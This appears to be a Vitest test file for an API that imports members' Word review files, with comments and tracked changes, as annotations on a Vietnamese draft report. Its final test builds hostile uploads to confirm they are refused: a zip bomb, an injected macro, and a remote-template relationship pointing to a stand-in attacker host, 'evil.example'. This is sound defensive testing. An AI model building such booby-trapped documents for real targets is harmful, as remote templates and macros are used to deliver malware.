import { Document, Packer, Paragraph } from 'docx';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Unit } from '../../server/db/units.repository.js';
import { makeDocumentInRound, makeMembers, makeUnit, type SignedInMember } from '../helpers/factories.js';
import { expectProblem, startTestApp, type TestApp } from '../helpers/test-app.js';
import { zipBombDocx } from '../helpers/docx-files.js';
import { memberFile, type Piece } from '../helpers/word-review-files.js';

let t: TestApp;
let commune: Unit;
let drafter: SignedInMember, secretary: SignedInMember, alice: SignedInMember, bob: SignedInMember;
const report = '# I. Kinh tế\nTốc độ tăng trưởng đạt 8,2% mỗi năm, vượt chỉ tiêu Nghị quyết.\n# II. Xã hội\nTỷ lệ hộ nghèo giảm còn 4,1% theo chuẩn nghèo đa chiều.\n';

beforeAll(async () => {
  t = await startTestApp();
  const db = t.database.db;
  commune = await makeUnit(db, { parent: await makeUnit(db, { level: 'district' }) });
  ({ drafter, secretary, alice, bob } = await makeMembers(t, { drafter: [[commune, 'drafter']], secretary: [[commune, 'secretary']], alice: [[commune, 'member']], bob: [[commune, 'member']] }));
});
afterAll(async () => t.close());

const round = async (): Promise<string> => (await makeDocumentInRound(t, drafter.token, { unitId: commune.id, markdown: report })).roundId;

const send = (roundId: string, member: SignedInMember, file: Buffer | string, extra: Record<string, unknown> = {}) =>
  t.request({
    method: 'POST',
    url: `/api/v1/rounds/${roundId}/imports`,
    token: member.token,
    payload: { filename: 'gop-y.docx', dataBase64: typeof file === 'string' ? file : file.toString('base64'), ...extra },
  });

/** The member's copy: the export's frame lines, then the text with their marks. */
const marked: Piece[][] = [
  ['ĐẢNG CỘNG SẢN VIỆT NAM'],
  ['I. Kinh tế'],
  ['Tốc độ tăng trưởng đạt ', { comment: 'Đề nghị ghi rõ nguồn số liệu', on: '8,2%' }, ' mỗi năm, vượt chỉ tiêu Nghị quyết.'],
  ['II. Xã hội'],
  ['Tỷ lệ hộ nghèo giảm còn ', { del: '4,1%' }, { ins: '3,9%' }, ' theo chuẩn nghèo đa chiều.'],
  [{ comment: 'Câu này không có trong dự thảo', on: 'Một đoạn người góp ý tự thêm vào bản của mình' }],
];

describe('importing a member’s Word file', () => {
  it('turns comments and tracked changes into the member’s annotations, unplaced ones into general comments keeping the quote', async () => {
    const roundId = await round();
    const response = await send(roundId, alice, await memberFile(marked));
    expect(response.statusCode).toBe(201);
    const { created, unplaced } = response.json();
    expect(unplaced).toBe(1);
    expect(created).toHaveLength(3);
    const [comment, suggestion, general] = created;
    expect(comment).toMatchObject({ authorId: alice.id, kind: 'comment', body: 'Đề nghị ghi rõ nguồn số liệu', anchor: { scope: 'passage', quote: { exact: '8,2%' }, section: 'I' } });
    expect(suggestion).toMatchObject({ kind: 'suggestion', replacement: '3,9%', anchor: { scope: 'passage', quote: { exact: '4,1%' }, section: 'II' } });
    expect(general).toMatchObject({ kind: 'comment', anchor: { scope: 'document', quote: null }, body: '«Một đoạn người góp ý tự thêm vào bản của mình»: Câu này không có trong dự thảo' });

    // The same file again creates nothing.
    const again = await send(roundId, alice, await memberFile(marked));
    expect(again.statusCode).toBe(200);
    expect(again.json()).toEqual({ created: [], unplaced: 1 });
    const listed = await t.request({ method: 'GET', url: `/api/v1/rounds/${roundId}/annotations`, token: alice.token });
    expect(listed.json()).toHaveLength(3);
  });

  it('lets the secretary import a member’s file on their behalf, and refuses others', async () => {
    const roundId = await round();
    const recorded = await send(roundId, secretary, await memberFile(marked.slice(0, 3)), { onBehalfOf: { memberId: bob.id }, source: 'paper' });
    expect(recorded.statusCode).toBe(201);
    expect(recorded.json().created[0]).toMatchObject({ authorId: bob.id, recordedBy: { id: secretary.id }, source: 'paper' });
    expectProblem(await send(roundId, alice, await memberFile(marked.slice(0, 3)), { onBehalfOf: { memberId: bob.id }, source: 'paper' }), 403, 'forbidden');
    expectProblem(await send(roundId, secretary, await memberFile(marked.slice(0, 3)), { onBehalfOf: { memberId: bob.id } }), 400, 'validation_failed');
  });

  it('answers 200 with nothing for a file without comments or changes', async () => {
    const roundId = await round();
    const plain = await Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph('Tôi nhất trí với dự thảo.')] }] }));
    const response = await send(roundId, alice, plain);
    expect(response.statusCode).toBe(200);
    expect(response.json()).toEqual({ created: [], unplaced: 0 });
  });

  it('refuses files that are not Word documents, too large, with macros or outside content, and writes nothing', async () => {
    const roundId = await round();
    expectProblem(await send(roundId, alice, Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])), 415, 'unsupported_media_type');
    expectProblem(await send(roundId, alice, Buffer.from('%PDF-1.4\n%%EOF\n')), 415, 'unsupported_media_type');
    expectProblem(await send(roundId, alice, 'không phải base64!'), 400, 'validation_failed');
    expectProblem(await send(roundId, alice, Buffer.concat([Buffer.from('%PDF-'), Buffer.alloc(10 * 1024 * 1024)])), 413, 'too_large');
    // A zip bomb: a small file whose document.xml declares 101 MiB, refused before it is inflated.
    expect(expectProblem(await send(roundId, alice, await zipBombDocx(101)), 413, 'too_large').fileProblem).toBe('unpacks_too_large');
    const macro = await JSZip.loadAsync(await memberFile(marked));
    macro.file('word/vbaProject.bin', Buffer.alloc(16));
    expectProblem(await send(roundId, alice, await macro.generateAsync({ type: 'nodebuffer' })), 415, 'unsupported_media_type');
    const external = await JSZip.loadAsync(await memberFile(marked));
    const rels = await external.file('word/_rels/document.xml.rels')!.async('string');
    external.file(
      'word/_rels/document.xml.rels',
      rels.replace('</Relationships>', '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'),
    );
    expect(expectProblem(await send(roundId, alice, await external.generateAsync({ type: 'nodebuffer' })), 415, 'unsupported_media_type').fileProblem).toBe('external_content');
    const broken = await JSZip.loadAsync(await memberFile(marked));
    broken.file('word/document.xml', '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>');
    expectProblem(await send(roundId, alice, await broken.generateAsync({ type: 'nodebuffer' })), 400, 'validation_failed');
    expectProblem(await t.request({ method: 'POST', url: `/api/v1/rounds/${roundId}/imports`, token: alice.token, payload: { filename: 'a.docx' } }), 400, 'validation_failed');
    const listed = await t.request({ method: 'GET', url: `/api/v1/rounds/${roundId}/annotations`, token: alice.token });
    expect(listed.json()).toEqual([]);
  });
});
